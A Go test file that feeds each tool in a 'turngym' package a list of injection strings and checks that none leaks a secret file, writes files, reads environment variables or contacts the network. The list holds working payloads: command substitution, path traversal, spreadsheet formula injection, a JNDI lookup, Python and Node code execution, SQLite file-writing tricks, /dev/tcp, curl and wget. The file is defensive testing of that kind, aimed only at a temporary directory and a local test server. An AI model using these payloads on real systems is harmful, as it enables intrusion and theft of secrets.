package tools_test

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/turngym/turngym/gym"
	"github.com/turngym/turngym/tools"
)

// tricks are texts that have led out of something like a tool before.
func tricks(dir, file, address string) []string {
	list := []string{file, "file://" + file, "../../../../../.." + file, "@" + file, "<" + file, "cat " + file, "`cat " + file + "`", "$(cat " + file + ")",
		"| cat " + file, "; cat " + file + " #", "=cmd|' /C calc'!A0", "=WEBSERVICE(\"" + address + "\")", "{{ .Env }}", "${HOME}", "$GYM_TEST_SECRET", "%GYM_TEST_SECRET%",
		"${jndi:ldap://" + strings.TrimPrefix(address, "http://") + "/a}", address, "<img src=" + address + ">", "\\\\127.0.0.1\\share",
		"os.Getenv(\"GYM_TEST_SECRET\")", "__import__('os').system('id')", "require('child_process').execSync('touch " + dir + "/made')",
		"os.execute('touch " + dir + "/made')", "io.open('" + file + "'):read('*a')", "readfile('" + file + "')",
		"COPY (SELECT 1) TO '" + dir + "/made'", "ATTACH DATABASE '" + dir + "/made' AS x; CREATE TABLE x.t(a); SELECT * FROM x.t", ".shell touch " + dir + "/made",
		".read " + file, "SELECT load_extension('" + file + "')", "SELECT readfile('" + file + "')", "curl " + address, "wget " + address,
		"cat /proc/self/environ", "/proc/self/environ", "env", "printenv", "echo $GYM_TEST_SECRET", "echo ~root", "cat <(echo x)",
		"exec 3<>/dev/tcp/" + strings.Replace(strings.TrimPrefix(address, "http://"), ":", "/", 1), "touch " + dir + "/made", "echo x > " + dir + "/made",
		"require('fs').writeFileSync('" + dir + "/made', 'x')", "process.env.GYM_TEST_SECRET", "fetch('" + address + "')", "this.constructor.constructor('return process')().env"}
	return list
}

// No tool of the list reaches the files, the network, the variables or the
// processes of the machine, whatever text it is given in whichever place.
func TestNoToolReachesTheMachine(t *testing.T) {
	const secret = "hunter2-of-the-test"
	dir := t.TempDir()
	file := filepath.Join(dir, "secret.txt")
	if err := os.WriteFile(file, []byte(secret+"\nsecond line\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("GYM_TEST_SECRET", secret)
	var asked atomic.Int64
	s := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked.Add(1) }))
	defer s.Close()
	web, err := tools.NewHTTP("https://example.invalid")
	if err != nil {
		t.Fatal(err)
	}
	all := []tools.Tool{web}
	for _, e := range tools.All().Entries() {
		all = append(all, e.New()...)
	}
	for _, x := range all {
		v := x.Verb()
		t.Run(v.Name, func(t *testing.T) {
			for _, trick := range tricks(dir, file, s.URL) {
				for place, p := range v.Params {
					if p.Kind != gym.Str && p.Kind != gym.JSON {
						continue
					}
					a, _ := try(t, x, place, trick)
					if strings.Contains(a, secret) {
						t.Errorf("%q for %s gave %q", trick, p.Name, a)
					}
				}
			}
			if c, ok := x.(tools.Closer); ok {
				if err := c.Close(); err != nil {
					t.Error(err)
				}
			}
		})
	}
	if list, err := os.ReadDir(dir); err != nil || len(list) != 1 {
		t.Errorf("something was written: %v, %v", list, err)
	}
	if n := asked.Load(); n != 0 {
		t.Errorf("the network was asked %d times", n)
	}
}

// try calls a tool with a text in one place and something plain in the others.
func try(t *testing.T, x tools.Tool, place int, text string) (string, error) {
	v := x.Verb()
	args := make([]gym.Value, len(v.Params))
	for i, p := range v.Params {
		args[i] = gym.Value{Kind: p.Kind, Text: "a"}
		switch p.Kind {
		case gym.Enum:
			args[i].Text = p.Enum[0]
		case gym.Int, gym.Num:
			args[i].Num = max(p.Min, min(1, p.Max))
		case gym.JSON:
			args[i].Text = "{}"
		}
	}
	args[place].Text = text
	r, err := tools.Use{Tool: x, Time: 2 * time.Second}.Call(t.Context(), args)
	if err != nil {
		return err.Error(), err
	}
	return r.Text, nil
}

// Every tool of the list is one that the suite could be run on, and is fresh.
func TestTheListMakesFreshTools(t *testing.T) {
	seen := map[string]string{}
	for _, e := range tools.All().Entries() {
		list := e.New()
		if len(list) == 0 {
			t.Errorf("%s makes no tool", e.Name)
		}
		for _, x := range list {
			if other, ok := seen[x.Verb().Name]; ok {
				t.Errorf("%s and %s both have the verb %s", e.Name, other, x.Verb().Name)
			}
			seen[x.Verb().Name] = e.Name
		}
	}
	first, second := tools.Notes(), tools.Notes()
	answered(t, first[0], "key", "text")
	if got := answered(t, second[1]); got != "nothing was noted yet" {
		t.Errorf("what was noted with one is seen with another: %s", got)
	}
}
